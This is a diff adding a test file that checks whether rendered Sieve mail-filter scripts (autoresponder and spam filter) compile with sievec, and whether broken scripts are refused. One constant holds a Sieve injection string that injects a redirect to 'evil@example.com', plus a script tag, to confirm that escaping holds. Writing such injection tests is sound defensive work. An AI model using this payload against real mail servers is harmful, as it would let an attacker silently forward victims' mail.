@@ -1,0 +1,66 @@
+import { mkdtemp, readFile, rm, stat, writeFile, mkdir } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { AUTORESPONDER_DEFAULTS, SPAMFILTER_DEFAULTS } from '@haven/contract/mail-rules';
+import { hasCommand } from '../../lib/process.ts';
+import { renderMailboxSieve } from './sieve-render.ts';
+import { activeSievePath, checkSieve, writeMailboxSieve } from './sieve-writer.ts';
+
+const sievec = await hasCommand('sievec', ['-h']).then(
+  async (ok) => ok || (await hasCommand('which', ['sievec'])),
+);
+if (!sievec) console.warn('sieve compile test skipped: sievec (dovecot-sieve) is missing');
+
+const attack = 'x";\r\n} redirect "evil@example.com"; #\\ ${hex:22} <script>alert(1)</script>';
+
+describe.skipIf(!sievec)('rendered scripts compile with Pigeonhole sievec', () => {
+  const dirs: string[] = [];
+  afterAll(async () => {
+    for (const d of dirs) await rm(d, { recursive: true, force: true });
+  });
+
+  it.each([
+    ['text reply with end date and attack text', 'text', 'move'],
+    ['HTML reply with script tags', 'html', 'delete'],
+    ['marking only', 'text', 'mark'],
+  ] as const)('%s', async (_, content_type, action) => {
+    const script = renderMailboxSieve({
+      autoresponder: {
+        ...AUTORESPONDER_DEFAULTS,
+        enabled: true,
+        subject: 'Re: "away" \\ here',
+        content_type,
+        text: attack,
+        days: 7,
+        end_date: '2030-12-31',
+      },
+      spamfilter: {
+        ...SPAMFILTER_DEFAULTS,
+        action,
+        whitelist: ["o'neil@*", '*@friends.test'],
+        blacklist: [attack.replace(/[\r\n]/g, ''), '\\'],
+      },
+      addresses: ['info@example.test'],
+    });
+    expect(await checkSieve(script)).toBeNull();
+  });
+
+  it('refuses a broken script and leaves the active one as it was', async () => {
+    const home = await mkdtemp(join(tmpdir(), 'haven-sieve-home-'));
+    dirs.push(home);
+    await mkdir(join(home, 'sieve'));
+    await writeFile(activeSievePath(home), 'keep;\n');
+    await expect(writeMailboxSieve(home, 'require "vacation";\nvacation "x')).rejects.toThrow(
+      /sievec refused/,
+    );
+    expect(await readFile(activeSievePath(home), 'utf8')).toBe('keep;\n');
+    const good = renderMailboxSieve({
+      autoresponder: { ...AUTORESPONDER_DEFAULTS, enabled: true, text: 'hi' },
+      spamfilter: SPAMFILTER_DEFAULTS,
+    });
+    await writeMailboxSieve(home, good);
+    expect(await readFile(activeSievePath(home), 'utf8')).toBe(good);
+    expect((await stat(activeSievePath(home))).mode & 0o777).toBe(0o600);
+  });
+});
